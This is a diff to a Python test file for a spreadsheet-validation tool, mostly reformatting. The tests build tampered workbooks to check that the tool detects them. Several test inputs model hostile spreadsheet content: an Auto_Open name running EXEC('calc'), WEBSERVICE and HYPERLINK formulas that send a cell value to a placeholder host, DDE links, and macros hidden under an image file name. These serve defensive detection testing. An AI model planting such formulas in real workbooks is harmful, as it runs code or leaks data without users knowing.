@@ -12,7 +12,7 @@ from tests.workbook.tamper import TABLE_2, TABLE_3, TABLE_4, TEXTS, Formula, Ope
 from tests.workbook.test_disguise import SOLID
 from tests.workbook.test_identity import hide, no_hidden_marks, no_properties, prop, show
 from tests.workbook.test_outside import EXTERNAL
-from xltool.workbook.address import CHECKS, COVER, HIDDEN
+from xltool.workbook.layout_plan import CHECKS, COVER, HIDDEN
 
 BOOK = "xl/workbook.xml"
 PARTLY, SECRET = (f"applications.{row}.natural_person" for row in ("partly_granted", "refused_state_secret"))
@@ -38,7 +38,11 @@ def scripted(code: str, sheet: str, verb: str, at: int, status: str = RETURNED) 
 
 def everywhere(field: str, value: str) -> tuple[Tamper, ...]:
     """A mark written over in each place that tells it."""
-    return (hide(field, value), prop(field, value), *([show(field, value)] if field in {"name", "code", "year"} else []))
+    return (
+        hide(field, value),
+        prop(field, value),
+        *([show(field, value)] if field in {"name", "code", "year"} else []),
+    )
 
 
 def row(number: int, **attributes: str) -> Tamper:
@@ -128,7 +132,9 @@ CASES = {
     "names and labels removed": does("cell.lost", tamper.remove_names, lambda o: tamper.remove_labels(o, TABLE_3)),
     "a name that points to another cell": does(
         "cell.conflict",
-        lambda o: next(n for n in o.names() if n.get("name", "").startswith("cell__")).__setattr__("text", f"'{TABLE_3}'!$F$9"),
+        lambda o: next(n for n in o.names() if n.get("name", "").startswith("cell__")).__setattr__(
+            "text", f"'{TABLE_3}'!$F$9"
+        ),
     ),
     "a row inserted": notes("layout.shifted", lambda o: tamper.move_rows(o, TABLE_3, 8, 1)),
     "a row deleted": does("cell.lost", lambda o: tamper.move_rows(o, TABLE_3, 9, -1)),
@@ -139,12 +145,16 @@ CASES = {
     "a column inserted by a script": scripted("cell.conflict", TABLE_3, "insert_cols", 5),
     "a column deleted by a script": scripted("cell.conflict", TABLE_3, "delete_cols", 5),
     "rows of texts moved by a script": scripted("text.conflict", TEXTS, "insert_rows", 5),
-    "an input cut and pasted over another": does("cell.conflict", lambda o: tamper.cut_and_paste(o, (TABLE_3, "D6"), (TABLE_3, "E9"))),
+    "an input cut and pasted over another": does(
+        "cell.conflict", lambda o: tamper.cut_and_paste(o, (TABLE_3, "D6"), (TABLE_3, "E9"))
+    ),
     "merges undone": notes("merge.undone", unmerge),
     # sheets
     "a sheet renamed": notes("sheet.renamed", lambda o: tamper.rename(o, TABLE_3, "Sheet1")),
     "two tables under each other's name": does("cell.conflict", other_sheet),
-    "a sheet removed": Case(lambda: by_openpyxl(lambda book: book.remove(book[TABLE_3]), workbook()), RETURNED, "sheet.removed"),
+    "a sheet removed": Case(
+        lambda: by_openpyxl(lambda book: book.remove(book[TABLE_3]), workbook()), RETURNED, "sheet.removed"
+    ),
     "a sheet added": Case(lambda: by_openpyxl(added, workbook()), ACCEPTED, "sheet.added"),
     "a copy of a sheet added": Case(lambda: by_openpyxl(copied, workbook()), ACCEPTED, "sheet.added"),
     "sheets in another order": notes("sheet.reordered", tamper.reorder),
@@ -163,10 +173,14 @@ CASES = {
     ),
     "a condition that paints figures over": notes(
         "format.conditional",
-        lambda o: condition(o, TABLE_3, "D6:J30", f'<font><color rgb="FFFFFFFF"/></font><fill>{SOLID.format("FFFFFF")}</fill>'),
+        lambda o: condition(
+            o, TABLE_3, "D6:J30", f'<font><color rgb="FFFFFFFF"/></font><fill>{SOLID.format("FFFFFF")}</fill>'
+        ),
     ),
     # whose it is
-    "the cover of another agency": does("identity.conflict", show("name", "乌鲁木齐市教育局"), show("code", "650100-001")),
+    "the cover of another agency": does(
+        "identity.conflict", show("name", "乌鲁木齐市教育局"), show("code", "650100-001")
+    ),
     "the hidden marks of another agency": does("identity.conflict", hide("code", "650100-001")),
     "the properties of another agency": does("identity.conflict", prop("code", "650100-001")),
     "another serial in the properties": does("identity.conflict", prop("serial", "0002-00000000000000000000")),
@@ -179,7 +193,9 @@ CASES = {
     "a level that is none": Case(acted(*everywhere("level", "village")), REJECTED, "file.unknown_form"),
     "all marks removed": Case(acted(no_hidden_marks, no_properties), REJECTED, "file.unknown_form"),
     "the hidden marks removed": notes("identity.partial", no_hidden_marks),
-    "another version of the form": notes("form.digest", hide("digest", "0123456789abcdef"), prop("digest", "0123456789abcdef")),
+    "another version of the form": notes(
+        "form.digest", hide("digest", "0123456789abcdef"), prop("digest", "0123456789abcdef")
+    ),
     # what runs or reaches outside
     "macros": notes("file.macros", attached("vbaProject", "/xl/vbaProject.bin", b"\0")),
     "macros under another name": notes("file.macros", attached("vbaProject", "/xl/media/image9.bin", b"\0")),
@@ -189,13 +205,17 @@ CASES = {
     "a link to another workbook": notes(
         "file.outside", attached("externalLink", "/xl/externalLinks/a.xml", EXTERNAL.format("externalBook"))
     ),
-    "a DDE link": notes("file.outside", attached("externalLink", "/xl/externalLinks/a.xml", EXTERNAL.format("ddeLink"))),
+    "a DDE link": notes(
+        "file.outside", attached("externalLink", "/xl/externalLinks/a.xml", EXTERNAL.format("ddeLink"))
+    ),
     "a connection": notes("file.outside", attached("connections", "/xl/connections.xml")),
     "an embedded object": notes("file.outside", attached("oleObject", "/xl/embeddings/oleObject1.bin", b"\0")),
     "a picture of the network": notes(
         "file.outside", attached("image", "http://a.example/a.png", external=True, part="xl/theme/theme1.xml")
     ),
-    "a template on a share": notes("file.outside", attached("attachedTemplate", "file://server/share/a.xltm", external=True)),
+    "a template on a share": notes(
+        "file.outside", attached("attachedTemplate", "file://server/share/a.xltm", external=True)
+    ),
     **{
         f"a formula of {what}": notes("file.outside", formula_in_table(formula))
         for what, formula in {
@@ -213,6 +233,8 @@ CASES = {
         "file.outside", lambda o: condition(o, TABLE_3, "A1", "", formula='WEBSERVICE("http://a.example")=1')
     ),
     "a name that runs": notes("file.outside", name("Auto_Open", "EXEC(&quot;calc&quot;)")),
-    "a formula beside the checks": notes("file.outside", lambda o: o.put(CHECKS, "A3", Formula('HYPERLINK("http://a.example/"&A1)'))),
+    "a formula beside the checks": notes(
+        "file.outside", lambda o: o.put(CHECKS, "A3", Formula('HYPERLINK("http://a.example/"&A1)'))
+    ),
     "a formula on the cover": notes("file.outside", lambda o: o.put(COVER, "A1", Formula("[1]a!A1"))),
 }
